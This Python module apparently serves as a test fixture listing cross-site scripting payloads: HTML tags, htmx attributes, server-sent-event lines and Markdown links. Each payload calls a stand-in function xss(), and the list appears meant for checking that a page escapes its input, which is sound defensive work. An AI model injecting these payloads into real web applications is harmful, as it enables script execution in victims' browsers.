"""Texts that would run a script in a page that does not treat them as text. Each calls `xss()`."""

from __future__ import annotations

_TAGS = [
    "<script>xss()</script>", "<SCRIPT>xss()</SCRIPT>", "<script src=data:text/javascript,xss()></script>",
    "<img src=x onerror=xss()>", "<img src=x onerror='xss()'>", '"><img src=x onerror=xss()>',
    "'><img src=x onerror=xss()>", "<svg onload=xss()>", "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>", "<body onload=xss()>",
    "<iframe src=javascript:xss()>",
    "<iframe srcdoc='<script>parent.xss()</script>'>", "<details open ontoggle=xss()>",
    "<video><source onerror=xss()>",
    "<audio src=x onerror=xss()>", "<input autofocus onfocus=xss()>", "<select autofocus onfocus=xss()>",
    "<textarea autofocus onfocus=xss()>", "<marquee onstart=xss()>", "<object data=javascript:xss()>",
    "<embed src=javascript:xss()>", "<a href=javascript:xss()>x</a>",
    "<form action=javascript:xss()><button>x",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=xss()>",
    "<base href=javascript:xss()//>",
    "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
    "<link rel=stylesheet href=data:,x onload=xss()>",
    "<style>@import 'data:text/css,x'</style>", "<template><script>xss()</script></template>",
    "</textarea><script>xss()</script>", "</title><script>xss()</script>", "</script><script>xss()</script>",
    "</pre><img src=x onerror=xss()>", "<!--><script>xss()</script>-->", "<![CDATA[<script>xss()</script>]]>",
]  # fmt: skip
_HTMX = [
    "<div hx-get=/ hx-trigger=load hx-on:click=xss()>", "<div hx-on::load='xss()'>x</div>",
    "<hx-partial hx-target=body hx-swap=innerHTML><img src=x onerror=xss()></hx-partial>",
    "<div hx-swap-oob=true id=main><img src=x onerror=xss()></div>",
    "<div hx-vals='js:{x: xss()}' hx-get=/ hx-trigger=load>",
    "<div data-hx-get=javascript:xss() data-hx-trigger=load>", "data: <script>xss()</script>",
    "\n\ndata: <img src=x onerror=xss()>\n\n", "\r\rdata: <script>xss()</script>\r\r",
]  # fmt: skip
_MARKDOWN = [
    "[x](javascript:xss())", "[x](JaVaScRiPt:xss())", "[x](data:text/html,<script>xss()</script>)",
    "![x](x\" onerror=\"xss())", "![x](javascript:xss())", "<javascript:xss()>",
    "[x]: javascript:xss()\n\n[x]",
    "`<img src=x onerror=xss()>`", "```html\n<script>xss()</script>\n```", "    <script>xss()</script>",
    "| <script>xss()</script> | b |\n|---|---|\n| <img src=x onerror=xss()> | 2 |",
    "# <img src=x onerror=xss()>", "> <svg onload=xss()>", "[x](https://a\" onmouseover=\"xss())",
    "&lt;script&gt;xss()&lt;/script&gt; &#60;img src=x onerror=xss()&#62;", "\\<script>xss()\\</script>",
]  # fmt: skip
PAYLOADS = [*_TAGS, *_HTMX, *_MARKDOWN]
